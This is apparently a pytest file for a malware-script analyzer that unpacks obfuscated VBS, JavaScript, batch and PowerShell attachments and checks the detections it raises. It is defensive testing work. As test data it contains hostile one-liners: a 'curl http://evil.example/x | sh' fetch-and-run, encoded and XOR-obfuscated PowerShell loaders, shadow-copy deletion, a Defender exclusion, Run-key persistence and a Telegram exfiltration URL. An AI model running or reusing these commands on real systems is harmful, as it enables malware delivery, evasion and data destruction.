"""Scripts are taken apart layer by layer and never run; honest ones stay quiet."""

from __future__ import annotations

import base64
import time

import pytest

from analyzers.attachments.scripts import UNIT
from analyzers.lib.calltables import TABLES
from analyzers.model.content import Link
from analyzers.model.observation import Child, Finding, Observation, Severity
from analyzers.model.script import ScriptCall, ScriptLayer
from tests.analyzers.attachments.observed import children, facts, findings, observe, survives
from tests.samples import scripts as samples
from tests.samples.scripts import CRADLE, encoded, packed
from tests.thinned import thinned

P = "powershell"


def run(text: str | bytes, name: str) -> list[Observation]:
    data = text if isinstance(text, bytes) else text.encode()
    return observe(UNIT, data, name, "script")


def layers(seen: list[Observation]) -> list[ScriptLayer]:
    return [one for one in seen if isinstance(one, ScriptLayer)]


def acts(seen: list[Observation]) -> set[str]:
    return {one.act for one in seen if isinstance(one, ScriptCall)}


def addresses(seen: list[Observation]) -> list[str]:
    return [one.url for one in seen if isinstance(one, Link)]


GZIP = f"""(New-Object IO.StreamReader(New-Object IO.Compression.GzipStream([IO.MemoryStream]
[Convert]::FromBase64String('{packed(CRADLE)}'),[IO.Compression.CompressionMode]::Decompress)))"""
# name: script, the finding expected and its weight, the language of the innermost layer
SAMPLES: dict[str, tuple[str | bytes, str, Severity, str]] = {
    "a.vbs": (samples.VBS, "script.fetches-runs", Severity.CRITICAL, P),
    "a.js": (samples.JS, "script.fetches-runs", Severity.CRITICAL, "batch"),
    "a.bat": (samples.BATCH, "script.fetches-runs", Severity.CRITICAL, P),
    "a.hta": (samples.HTA, "script.runs", Severity.MEDIUM, "vbscript"),
    "a.wsf": (samples.WSF, "script.fetches-runs", Severity.HIGH, "jscript"),
    "a.vbe": (samples.ENCODER, "script.encoded", Severity.MEDIUM, "vbscript"),
    "a.py": (samples.PYTHON, "script.layers", Severity.HIGH, "python"),
    "a.sh": (
        "#!/bin/sh\ncurl http://evil.example/x | sh\n",
        "script.fetches-runs",
        Severity.HIGH,
        "shell",
    ),
    "b.ps1": (
        f"powershell.exe -nop -enc {encoded(CRADLE)}",
        "script.fetches-runs",
        Severity.CRITICAL,
        P,
    ),
    "gzip.ps1": (f"iex {GZIP}.ReadToEnd()", "script.layers", Severity.HIGH, P),
    "deflate.ps1": (
        "iex (New-Object IO.Compression.DeflateStream([Convert]::FromBase64String("
        f"'{packed(CRADLE * 4, 'deflate')}')))",
        "script.layers",
        Severity.HIGH,
        P,
    ),
    "fetch.ps1": (
        "Invoke-WebRequest http://a.example/x -OutFile x",
        "script.fetches",
        Severity.MEDIUM,
        P,
    ),
    "run.ps1": ("Start-Process notepad", "script.runs", Severity.MEDIUM, P),
    "inject.ps1": ("$a=[Reflection.Assembly]::Load($b)", "script.injects", Severity.CRITICAL, P),
    "persist.bat": (
        "@echo off\nreg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a\n",
        "script.persists",
        Severity.HIGH,
        "batch",
    ),
    "evade.ps1": ("Add-MpPreference -ExclusionPath C:\\", "script.evades", Severity.HIGH, P),
    "spy.ps1": ("$t = Get-Clipboard; [Console]::Beep()", "script.spies", Severity.HIGH, P),
    "destroy.bat": (
        "@echo off\nvssadmin delete shadows /all /quiet\n",
        "script.destroys",
        Severity.MEDIUM,
        "batch",
    ),
    "bot.ps1": (
        "$u='https://api.telegram.org/bot1:a/sendMessage'; $x=1",
        "script.exfiltrates",
        Severity.HIGH,
        P,
    ),
    "hide.bat": ("@echo off\nattrib +h a.txt\n", "script.hides", Severity.MEDIUM, "batch"),
    "split.ps1": (
        "$a='Add-MpPre'+'ference'; & $a -ExclusionPath C:",
        "script.obfuscated",
        Severity.HIGH,
        P,
    ),
    "a.pl": ("#!/usr/bin/perl\nprint 1;\n", "script.language", Severity.INFO, ""),
}


@pytest.mark.parametrize("name", SAMPLES)
def test_a_script_that_acts_is_told(name: str) -> None:
    text, rule, severity, language = SAMPLES[name]
    seen = run(text, name)
    assert findings(seen)[rule].severity is severity
    assert layers(seen)[-1].language == language


ACT = 'var s=new ActiveXObject("WScript.Shell");s.Run("calc.exe")'
SPELLED = {
    "minus.vbs": "a=Array(" + ",".join(str(ord(c) + 7) for c in samples.SHELL) + ")\n"
    "For Each n In a\nb = b & Chr(n - 7)\nNext\nExecute b\n",
    "xor.js": "var k=77,a=[" + ",".join(str(ord(c) ^ 77) for c in ACT) + "],b='';"
    "for(i=0;i<a.length;i++)b+=String.fromCharCode(a[i]^k);eval(b);",
    "bytes.ps1": "$b=[Convert]::FromBase64String('"
    + base64.b64encode(bytes(b ^ 0x35 for b in CRADLE.encode())).decode()
    + "');for($i=0;$i -lt $b.Length;$i++){$b[$i]=$b[$i] -bxor 0x35};iex $b",
}


@pytest.mark.parametrize("name", SPELLED)
def test_keys_and_shifts_of_the_script_are_tried(name: str) -> None:
    seen = run(SPELLED[name], name)
    wanted = {"minus.vbs": samples.SHELL, "xor.js": ACT, "bytes.ps1": CRADLE}[name]
    assert wanted in [layer.text for layer in layers(seen)]


@pytest.mark.parametrize("name", samples.HONEST)
def test_an_honest_script_has_no_finding(name: str) -> None:
    seen = run(samples.HONEST[name], name)
    assert [one for one in seen if isinstance(one, Finding)] == []
    assert facts(seen)["Layers"] == "1"


PAYLOADS = {
    "a.vbs": "http://evil.example/p.ps1",
    "a.js": "http://evil.example/a.exe",
    "a.bat": "http://evil.example/p",
    "b.ps1": "http://evil.example/p.ps1",
    "gzip.ps1": "http://evil.example/p.ps1",
}


@pytest.mark.parametrize("name", PAYLOADS)
def test_the_addresses_of_inner_layers_are_links(name: str) -> None:
    assert PAYLOADS[name] in addresses(run(SAMPLES[name][0], name))


def test_layers_stand_in_order_and_say_how_they_came() -> None:
    seen = layers(run(samples.VBS, "a.vbs"))
    ways = [(one.number, one.above, one.depth, one.language, one.how) for one in seen]
    assert ways[0] == (0, -1, 0, "vbscript", "as written")
    assert [way[4] for way in ways[1:3]] == ["constants put together", "given to execute"]
    assert seen[-1].text == CRADLE
    assert all(one.above < one.number for one in seen)


def test_calls_have_their_line_argument_meaning_and_technique() -> None:
    seen = run("x = 1\nAdd-MpPreference -ExclusionPath C:\\", "a.ps1")
    call = next(one for one in seen if isinstance(one, ScriptCall))
    assert (call.line, call.technique, call.act) == (2, "T1685", "evade")
    assert call.argument == "Add-MpPreference -ExclusionPath C:\\"


def test_the_command_that_would_run_is_a_fact() -> None:
    assert facts(run(samples.JS, "a.js"))["Would run"] == "cmd /c start C:\\a.exe"


def test_the_innermost_layer_is_handed_on() -> None:
    assert CRADLE.encode() in children(run(samples.VBS, "a.vbs")).values()


def test_a_program_in_a_script_is_rebuilt() -> None:
    shortcut = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + bytes(80)
    text = f'Dim a\na = "{base64.b64encode(shortcut).decode()}"\n'
    seen = run(text, "a.vbs")
    assert findings(seen)["script.payload"].severity is Severity.CRITICAL
    assert shortcut in [one.data for one in seen if isinstance(one, Child)]


BOUNDS = {
    "limit.script.layers": "".join(f"eval('var a{n}=window.open(1);');" for n in range(60)),
    "limit.script.steps": "a;" * 150_000,
    "limit.script.calls": "\n".join(w for row in TABLES["jscript"] for w in row.words) * 12,
    "limit.script.text": "eval('" + "window.open(1);" * 350_000 + "')",
}


def test_layers_inside_one_another_have_a_bound() -> None:
    text = "MsgBox 1"
    for _ in range(14):
        text = 'Execute "' + text.replace('"', '""') + '"'
        if len(text) > 400_000:
            break
    assert "limit.script.depth" in findings(run(text, "a.vbs"))


@pytest.mark.parametrize("rule", BOUNDS)
def test_a_bound_that_is_met_is_told(rule: str) -> None:
    assert rule in findings(run(BOUNDS[rule], "a.js"))


@pytest.mark.parametrize("name", ["a.vbs", "a.js", "a.bat", "gzip.ps1", "a.wsf", "a.vbe"])
def test_damaged_scripts_are_survived(name: str) -> None:
    text = SAMPLES[name][0]
    survives(UNIT, text if isinstance(text, bytes) else text.encode(), "script")


@pytest.mark.parametrize("name", thinned(samples.BOMBS, 4))
def test_a_bomb_ends_soon(name: str) -> None:
    started = time.process_time()
    assert len(run(samples.BOMBS[name], name)) < 2_000
    assert time.process_time() - started < 6
